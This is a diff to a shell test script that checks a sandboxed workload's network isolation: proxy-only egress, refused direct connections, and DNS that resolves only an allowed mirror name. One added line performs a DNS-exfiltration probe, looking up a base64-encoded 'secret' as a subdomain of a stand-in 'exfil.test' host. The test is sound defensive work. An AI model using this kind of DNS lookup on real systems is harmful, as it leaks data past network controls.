@@ -73,6 +73,7 @@ echo "big: \$(curl -sS -m 60 -o /dev/null -w '%{size_download}' http://mirror.te
 echo "big-tunnel: \$(curl -sS -m 60 -p -o /dev/null -w '%{size_download}' http://mirror.test:$P1/big 2>&1)"
 echo "direct: \$(curl -sS -m 5 --noproxy '*' http://127.0.0.1:$P1/direct 2>&1 | head -c 200; echo " rc=\$?")"
 echo "resolve: \$(getent hosts mirror.test || echo none)"
+echo "resolve-other: \$(getent hosts aGVsbG8gc2VjcmV0.exfil.test || echo none)"
 # Everything the workload can read that could hold the credential: its
 # environment, every visible process's environment and command line,
 # and the small files of the writable and configuration trees.
@@ -102,7 +103,9 @@ grep -q "^tunnel2: .*403\|^tunnel2: .*rc=56" "$TMP/w1.out" && ok "CONNECT to a p
     || bad "CONNECT to another port not refused"
 grep -q "^direct: .*rc=0" "$TMP/w1.out" && grep -q "^direct: ok" "$TMP/w1.out" && bad "a direct connection reached the host" \
     || ok "without the proxy nothing is reachable (the sandbox's loopback only)"
-grep -q "^resolve: none" "$TMP/w1.out" && ok "the sandbox resolves no destination name itself" || bad "a name resolved inside"
+grep -q "^resolve: 127.0.0.1 *mirror.test" "$TMP/w1.out" && grep -q "^resolve-other: none" "$TMP/w1.out" &&
+    ok "inside, the DNS stub resolves the allowed name only (no destination name in /etc/hosts)" ||
+    bad "resolution inside: $(grep '^resolve' "$TMP/w1.out")"
 [ ! -s "$TMP/log/$P2.log" ] && ok "the refused destination was never contacted" || bad "port $P2 saw a request"
 grep -c "^GET /" "$TMP/log/$P1.log" | grep -qx 5 && ok "the allowed destination saw exactly the 5 allowed requests" \
     || { bad "the allowed destination saw other requests"; cat "$TMP/log/$P1.log"; }
